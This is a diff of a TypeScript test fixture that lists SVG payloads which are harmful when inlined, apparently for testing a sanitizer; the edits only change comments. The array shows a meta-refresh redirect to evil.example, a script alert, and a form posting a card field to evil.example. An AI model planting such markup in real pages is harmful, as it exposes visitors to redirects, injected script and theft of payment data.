@@ -1,6 +1,6 @@
 /** SVG images that would do harm if they were inlined in a page. */
 
-/** Markup that an owner may be persuaded to add, or that a drawing program leaves in a file. */
+/** SVG markup that an attacker may persuade an owner to add, or that a drawing program leaves in a file. */
 export const HARMFUL_MARKUP: readonly string[] = [
   '</svg><meta http-equiv="refresh" content="0;url=https://evil.example"><svg>',
   "<script>alert(1)</script>",
@@ -20,7 +20,7 @@ export const HARMFUL_MARKUP: readonly string[] = [
   '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input name="card"/></form>',
 ];
 
-/** Returns an SVG image that contains some markup. */
+/** Returns an SVG image that contains the given markup. */
 export function drawingWith(inside: string): string {
   const namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
   return `<svg ${namespaces} viewBox="0 0 1600 620"><title>A hill</title>${inside}</svg>`;
